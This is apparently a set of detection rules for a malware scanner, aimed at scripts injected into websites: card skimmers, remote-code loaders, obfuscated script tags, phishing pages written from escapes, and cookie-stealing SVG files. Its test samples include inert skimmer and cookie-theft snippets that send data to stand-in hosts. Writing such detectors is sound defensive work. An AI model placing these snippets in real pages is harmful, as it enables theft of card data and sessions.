/* Scripts that run in the visitor's browser: redirects, drive-by loaders, card skimmers. */

rule skimmer {
  meta:
    id = "page-script/card-skimmer"
    title = "Card data is copied out of the checkout"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "A script reads the fields of the checkout form and sends them, encoded, to a place of its own."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "/* inert */ if (location.href.match(/checkout|onepage/)) { var d = document.querySelectorAll('input'); new Image().src = u + btoa(d); cc_number; }"
    must_not = "// Checkout: btoa is used for the basic auth header only\nvar h = btoa(user);"
  strings:
    $place = /(onepage|checkout|firecheckout|onestepcheckout)/ nocase private
    $fields = /querySelectorAll\(\s?['"](input|select|\*|form)|getElementsByTagName\(\s?['"]input|document\.forms\[/ nocase
    $card = /(cc_number|cc_cid|cc_exp|card_?number|cvv|ccnum|creditcard)/ nocase private
    $coded = /\b(btoa|window\["btoa"\]|encodeURIComponent)\s?\(/ private
    $sent = /new Image\s?(\(\s?\))?\s?\)?\s?[.;,]|\.src\s?=\s?[^;]{0,60}(btoa|\?\w{1,12}=)/ nocase
    $library = /(jQuery|Magento|Copyright|@license|define\s?\()/ private
  condition:
    $place and $fields and $card and $coded and $sent and not $library and filesize < 60KB
}

rule answers_run_as_script {
  meta:
    id = "page-script/runs-what-is-fetched"
    title = "A script runs whatever another server answers"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "What a request, a socket or a chain of blocks answers is given to eval or to a function made of it: the attacker changes what runs at any time."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1059/007/"
    must_match = "/* inert */ fetch('//inert.test/a').then(r => r.text()).then(t => eval(t));"
    must_match = "/* inert */ w = new WebSocket(u); w.onmessage = function (e) { new Function(e.data)(); };"
    must_match = "/* inert */ fetch(u, {body: JSON.stringify({method: 'eth_call'})}).then(r => r.json()).then(j => eval(atob(j.result)));"
    must_not = "fetch('/menu.json').then(r => r.json()).then(d => show(d)); w.onmessage = function (e) { JSON.parse(e.data); }; eval('1');"
  strings:
    $fetched = /\bfetch\([^;]{1,300}\)\s{0,4}\.then\([^;]{0,160}\.then\([^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\s?\)/
    $socket = /\.onmessage\s?=[^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\.data\s?\)/
    $chain = "eth_call"
    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(/
  condition:
    ($fetched or $socket or ($chain and $decoded)) and filesize < 256KB
}

rule card_fields_sent {
  meta:
    id = "page-script/card-fields-sent"
    title = "Card data is copied out of the checkout"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "What is typed into card fields, or looks like a card number, goes to another address by an image, a beacon or a socket."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "/* inert */ if (/card|cvv/.test(d)) new Image().src = u + '?x=' + btoa(JSON.stringify(d));"
    must_match = "/* inert */ if (/(\\d{4}[ -]?){4}/.test(o)) navigator.sendBeacon('https://inert.test/g', btoa(o));"
    must_match = "/* inert */ q('#cvv').onchange = function (e) { (new Image).src = '//inert.test/p.gif?' + encodeURIComponent(e.value); };"
    must_not = "var c = field('cc_number').value; new Image().src = '/pixel.gif?page=' + encodeURIComponent(location.pathname);"
    must_not = "if (card) navigator.sendBeacon('/stats', JSON.stringify({ viewed: card.id }));"
  strings:
    $card = /(cc_number|cc_cid|card_?-?number|\bcvv2?\b|\bcvc\b|ccnum)/ nocase
    $digits = /\(\\d\{4\}\[[^\]\n]{1,6}\]\??\)\{4\}/
    $image = /new Image\b\s?(\(\s?\))?\s?\)?\.src\s?=\s?[^;\n]{0,160}(btoa\s?\(|\.value\b)/
    $beacon = /\bsendBeacon\s?\([^;\n]{0,160}(btoa\s?\(|\.value\b)/
    $socket = /new WebSocket\b[^\n]{0,600}\.send\s?\([^;\n]{0,80}(btoa\s?\(|\.value\b)/
  condition:
    ($card or $digits) and any of ($image, $beacon, $socket) and filesize < 256KB
}

rule script_from_char_codes {
  meta:
    id = "page-script/hidden-loader"
    title = "A hidden script loads another from elsewhere"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "Script text is spelled in character codes or escapes, and then written into the page or executed: an injected redirect or loader."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "/* inert */ eval(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 105, 110, 101, 114, 116, 46, 116, 101, 115, 116));"
    must_match = "/* inert */ document.write(unescape('%3C%73%63%72%69%70%74%20'));"
    must_match = "/* inert */ new WebSocket(atob('d3NzOi8vaW5lcnQudGVzdC8='));"
    must_match = "/* inert */ location.href = String.fromCharCode(104,116,116,112,115,58,47,47,105,110,101,114,116);"
    must_match = "<?php exit; echo '<script src=\"' . base64_decode('aHR0cHM6Ly9pbmVydC50ZXN0L2EuanM=') . '\"></script>';"
    must_not = "<?php echo '<script src=\"' . $cdn . '\"></script><img src=\"data:image/png;base64,iVBORw0KGgo=\">';"
    must_not = "a.href = atob(a.dataset.to); img.src = 'data:image/png;base64,' + atob('iVBORw0KGgo=');"
    must_not = "document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,109,101));"
    must_not = "var a = String.fromCharCode(65, 66); eval('1');"
  strings:
    $codes = /\b(eval|document\.write(ln)?|appendChild|\.src\s?=|location(\.href)?\s?=|createElement)\s?\(?\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){10}/ nocase
    $anchor = /document\.write(ln)?\s?\(?\s?String\.fromCharCode\(\s?60\s?,\s?97\s?,\s?32\s?,\s?104\s?,\s?114\s?,\s?101\s?,\s?102\s?,\s?61\s?,\s?34\s?,\s?109\s?,\s?97\s?,\s?105/ nocase
    $escapes = /document\.write(ln)?\s?\(\s?unescape\s?\(\s?['"]%3C%73%63%72%69%70%74/ nocase
    $printed = /<script[^>\n]{0,80}src=[\\"'.\s]{1,8}base64_decode\s?\(\s?["'](aHR0c|Ly)/
    $address = /(\.(src|href|open)|\blocation|\bWebSocket|\bfetch|\bsendBeacon|\bimport)\s?[=(]\s?(["'](GET|POST)["']\s?,\s?)?(window\.)?atob\s?\(\s?["'](aHR0c|d3Nz|d3M6|Ly9|Ly8)/
    $later = /var \w{1,20}\s?=\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){25}[^;]{0,4000};[^;]{0,80}(createElement|document\.write|appendChild)/ nocase
    $kept = "base64_decode" nocase private
    // $codes and $later hold it: asked first, it spares most scripts their expressions
    $from = "String.fromCharCode" nocase private
  condition:
    ($from and ($later or #codes > #anchor)) or ($kept and $printed) or any of ($escapes, $address)
}

rule tag_in_escapes {
  meta:
    id = "page-script/tag-in-escapes"
    title = "A script tag is spelled in escapes or in base64 where the page is made"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "The tag of a script or its address is hidden letter by letter, or decoded only when a page is made: an injected redirect or loader."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "<?php exit; $s = \"\\x3c\\x73\\x63\\x72\\x69\\x70\\x74\";"
    must_match = "<?php exit; wp_enqueue_script('inert', base64_decode('aW5lcnQ='));"
    must_match = "<?php exit; echo base64_decode('PHNjcmlwdCBzcmM9');"
    must_not = "<?php echo '\\x3cscript\\x3e'; wp_enqueue_script('mine', plugins_url('a.js'));"
  strings:
    $hex = "\\x3c\\x73\\x63\\x72\\x69\\x70\\x74" nocase
    $queued = /\bwp_(enqueue|register)_script\s?\([^;]{0,80}\b(base64_decode|str_rot13|strrev|hex2bin)\s?\(/
    $printed = /\b(echo|print)[\s(]{0,3}base64_decode\s?\(\s?["'](PHNjcmlwd|PFNDUklQV|PHNjUmlwd|PGlmcmFtZ)/
  condition:
    any of them
}

rule page_written_from_escapes {
  meta:
    id = "page-script/page-from-escapes"
    title = "A whole page is written from escapes, so that nobody reads it"
    family = "skimmer-or-phish"
    severity = "high"
    confidence = "likely"
    description = "The head or a form of a page is kept in percent escapes or base64 and written by a script: phishing pages hide so from mail filters and scanners."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "<script>/* inert */ document.write(unescape('%3Chtml%3E%3Chead%3E%3Ctitle%3Einert%3C/title%3E'));</script>"
    must_match = "<script>/* inert */ document.write(atob('PCFET0NUWVBFIGh0bWw+aW5lcnQ='));</script>"
    must_not = "<script>document.write(unescape('%3Cp class=\"a\"%3E'));</script>"
  strings:
    $written = /document\.write(ln)?\s?\(\s?(unescape|decodeURIComponent|decodeURI|(window\.)?atob)\s?\(\s?['"](%0[AD]){0,4}(%3C(!|%21)?(%[0-9A-F]{2}|\w)?(%[0-9A-F]{2}){0,3}(doctype|html|head|body|form|title)\b|%3C%(68%74%6D%6C|21%64|21%44|66%6F%72%6D|48%54%4D%4C)|PCFET0NUWVBF|PCFkb2N0eXBl|PGh0bWw|PEhUTUw|PGZvcm0)/ nocase
  condition:
    $written
}

rule script_in_picture_steals {
  meta:
    id = "page-script/picture-with-script"
    title = "An SVG picture sends visitors away or their cookies elsewhere"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A vector picture holds a script that reads the cookies or leads to another host: opened by itself, it runs in the name of the site."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/017/"
    must_match = "<svg xmlns='http://www.w3.org/2000/svg'><script>/* inert */ fetch('https://inert.example.test/?c='+document.cookie)</script></svg>"
    must_match = "<svg onload=\"/* inert */ location='https://inert.example.test/'\"></svg>"
    must_not = "<svg xmlns='http://www.w3.org/2000/svg'><script>var n = 0; setInterval(turn, 50);</script></svg>"
  strings:
    $svg = /^(\xef\xbb\xbf)?\s{0,10}(<\?xml[^>]{0,100}\?>\s{0,10})?(<!DOCTYPE svg[^>]{0,200}>\s{0,10})?<svg\b/ nocase
    $cookie = /<script\b[^<]{0,400}(fetch|XMLHttpRequest|sendBeacon|\.src\s?=|location)[^<]{0,200}document\.cookie/ nocase
    $away = /(onload\s?=\s?["'][^"']{0,60}|<script\b[^<]{0,300})(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`]?(https?:)?\/\//  nocase
  condition:
    filesize < 256KB and $svg at 0 and any of ($cookie, $away)
}
